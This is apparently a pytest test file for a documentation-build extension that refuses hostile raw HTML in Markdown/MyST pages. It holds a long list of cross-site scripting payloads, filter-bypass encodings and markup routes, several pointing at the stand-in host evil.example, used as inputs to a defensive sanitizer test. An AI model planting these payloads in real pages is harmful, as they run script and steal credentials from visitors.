"""What a page must not bring in is told with file and line, and is not in the built page."""

from __future__ import annotations

import re

import pytest
from raw_html import faults, wrong_address

HOSTILE = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script
<scr<script>ipt>alert(1)</script>
<svg><script>alert(1)</script></svg>
<svg><style>*{background:url(//evil.example)}</style></svg>
<img \"\"\"><SCRIPT>alert(1)</SCRIPT>">
<img src=x onerror=alert(1)>
<img src=x onerror
<IMG SRC=x OnError=alert(1)>
<svg/onload=alert(1)>
<svg><title><img src=x onerror=alert(1)></title></svg>
<title><img src=x onerror=alert(1)></title>
<td/onclick=alert(1)>
<tr onmouseover=alert(1)>
</table><tr onmouseover=alert(1)>
<body onload=alert(1)>
<html onclick=alert(1)>
<details ontoggle=alert(1) open>
<x onclick=alert(1)>
<frameset onload=alert(1)>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="&lt;script&gt;"></iframe>
<object data="evil.swf"></object>
<embed src="evil.swf">
<applet code=evil></applet>
<portal src="https://evil.example"></portal>
<form action="https://evil.example"><input name=password></form>
<button formaction="javascript:alert(1)">go</button>
<input autofocus onfocus=alert(1)>
<isindex action="javascript:alert(1)">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example">
<META HTTP-EQUIV=Refresh CONTENT="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import "//evil.example/x.css";</style>
<p style="background: url(//evil.example/x)">
<table background="//evil.example/x">
<a href="javascript:alert(1)">x</a>
<a href=" &#1;JaVaScRiPt:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="jav&Tab;ascript:alert(1)">x</a>
<a href="&#x6A;avascript&colon;alert(1)">x</a>
<a href=javascript&#58;alert(1)>x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="#" ping="https://evil.example">x</a>
<area href="javascript:alert(1)">
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x'/>#x"/></svg>
<svg><use href="https://evil.example/x.svg#x"/></svg>
<svg><animate attributeName=href values="javascript:alert(1)"/></svg>
<svg><set attributeName=onmouseover to=alert(1) /></svg>
<svg><image href="https://evil.example/x.png"/></svg>
<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>
<svg><rect fill="url(https://evil.example/x#a)"/></svg>
<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>
<img src="https://evil.example/x.png">
<img src="//evil.example/x.png">
<img src="\\\\/evil.example/x.png">
<img src="data:image/svg+xml,<svg/>">
<img srcset="a.png 1x, //evil.example/x.png 2x">
<picture><source srcset="https://evil.example/x.png"></picture>
<video poster="//evil.example/x.png"></video>
<audio src="https://evil.example/x.mp3"></audio>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><style>*{}</style></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><p>
<plaintext>
<xmp>
<select><option>
<!-- never closed
<div title="never closed
<div
<p>x</p
<marquee onstart=alert(1)>x</marquee>
""".strip().splitlines()

HARMLESS = """
<br>
<kbd>Ctrl</kbd>
<details>
<details open><summary>More</summary>
</details>
</div>
<!-- a note for whoever edits -->
<div class="wide" id="here">
<span lang="fr" title="javascript: a language, data: facts">mot</span>
<a id="old-name"></a>
<a href="https://example.org/?q=data:x">elsewhere</a>
<a href="mailto:hello@2i2c.org?subject=see data: sheet">mail</a>
<a href="../pricing/#a">here</a>
<img src="../photo.png" alt="data: what we have" width="20" height="10">
<img srcset="a.png 1x, b.png 2x" src="a.png" alt="">
<video controls poster="a.png" src="a.mp4"></video>
<table>
<tr><td colspan="2">x</td></tr>
<th scope="row">
</td></tr></table>
<p align="center">
<sub>2</sub>
<abbr title="on time">OT</abbr>
<svg viewBox="0 0 1 1" role="img"><title>A box</title><path d="M0 0z" marker-end="url(#a)"/></svg>
""".strip().splitlines()


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_refused(html):
    assert list(faults(html))


@pytest.mark.parametrize("html", HARMLESS)
def test_harmless_html_is_not(html):
    assert not list(faults(html))


def test_the_line_within_a_block_is_told():
    [(line, problem)] = faults('<div>\n<p>\n<b onclick="x">')
    assert line == 2 and "onclick" in problem


@pytest.mark.parametrize("address", ["javascript:1", "\x01 java\nscript:1", "VBScript:1", "data:,"])
def test_addresses(address):
    assert wrong_address(address)
    assert not wrong_address("./" + address.strip()) and not wrong_address("https://e/#" + address)


# Every way in, on a page of its own; the line is where it stands.
WAYS_IN = {
    "link": (1, "[x](javascript:alert(1))"),
    "link-in-entities": (1, "[x](&#106;avascript:alert(1))"),
    "link-by-reference": (3, "[x][y]\n\n[y]: javascript:alert(1)"),
    "autolink": (1, "<javascript:alert(1)>"),
    "picture": (1, "![x](javascript:alert(1))"),
    "picture-from-elsewhere": (1, "![x](https://evil.example/x.png)"),
    "picture-as-data": (1, "```{image} data:image/svg+xml,x\n```"),
    "figure-target": (1, "```{figure} a.png\n:target: javascript:alert(1)\n\nWords\n```"),
    "block": (3, "text\n\n<script>alert(1)</script>"),
    "block-further-down": (5, "text\n\n<div>\n<p>\n<script>alert(1)</script></div>"),
    "inline": (1, "some <b onclick='alert(1)'>bold</b> text"),
    "in-a-table": (3, "| a |\n| - |\n| <b onclick='alert(1)'>b</b> |"),
    "in-a-list": (3, "- one\n\n  <iframe src='https://evil.example'></iframe>"),
    "directive": (1, "```{raw} html\n<img src=x onerror=alert(1)>\n```"),
    "directive-file": (1, "```{raw} html\n:file: hostile.svg\n```"),
    "html-picture": (1, "<img src='https://evil.example/x.png'>"),
    "html-admonition": (None, "<div class='admonition'>\n<script>alert(1)</script>\n</div>"),
    "front-matter": (
        1,
        "---\nmyst:\n  html_meta:\n    http-equiv=refresh: 0; url=//evil.example\n---\nx",
    ),
    "restructuredtext": (None, "```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```"),
    "rst-link": (None, "```{eval-rst}\n`x <javascript:alert(1)>`__\n```"),
    "menu": (1, "```{toctree}\nx <javascript://%0aalert(1)>\n```"),
    "card": (1, "```{card} T\n:link: javascript:alert(1)\n```"),
    "button": (1, "```{button-link} javascript:alert(1)\n```"),
}


def test_every_way_in_is_watched(mini_site):
    sources = {f"{name}.md": text + "\n" for name, (_, text) in WAYS_IN.items()}
    sources |= {
        "index.md": "# Front\n\nCode: `[x](javascript:alert(1))` and `<script>`.\n\n<kbd>k</kbd>\n",
        "hostile.svg": "<svg>\n<script>alert(1)</script>\n</svg>\n",
    }
    built = mini_site(
        sources,
        extensions=["sphinx_design", "raw_html"],
        myst_enable_extensions=["html_image", "html_admonition"],
        suppress_warnings=["myst.header", "toc.not_included", "image.not_readable"],
    )
    told = re.findall(r"/([\w-]+)\.md:(\d+): WARNING: .*\[raw_html\.refused\]", built.warnings)
    assert {name for name, _ in told} == set(WAYS_IN), built.warnings
    wrong = {name: (line, told) for name, (line, _) in WAYS_IN.items()
             if line and (name, str(line)) not in told}  # fmt: skip
    assert not wrong
    for name in WAYS_IN:
        page = built.page(f"{name}/index.html").find(class_="body")
        assert not page.find(["script", "iframe"]), name
        assert not [e for e in page.find_all(True) if {"onclick", "onerror"} & set(e.attrs)], name
        addresses = [e.get("href") or e.get("src") or "" for e in page.find_all(["a", "img"])]
        assert not [a for a in addresses if "script:" in a or "evil" in a or "data:" in a], name
    assert not built.page("front-matter/index.html").find("meta", {"http-equiv": "refresh"})
    front = built.page("index.html").find(class_="body")
    assert "javascript:alert(1)" in front.get_text() and front.find("kbd")
